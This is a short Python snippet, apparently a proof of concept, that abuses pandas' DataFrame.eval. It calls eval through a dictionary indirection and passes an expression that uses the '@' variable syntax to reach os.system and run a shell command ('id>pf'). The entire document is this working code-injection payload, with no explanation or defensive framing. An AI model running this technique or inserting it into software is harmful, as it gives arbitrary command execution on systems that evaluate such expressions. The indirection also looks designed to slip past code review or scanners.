import pandas as pd
run = {"f": pd.DataFrame.eval}
run["f"](pd.DataFrame({"a": [1]}), "@pd.io.common.os.system('id>pf')")
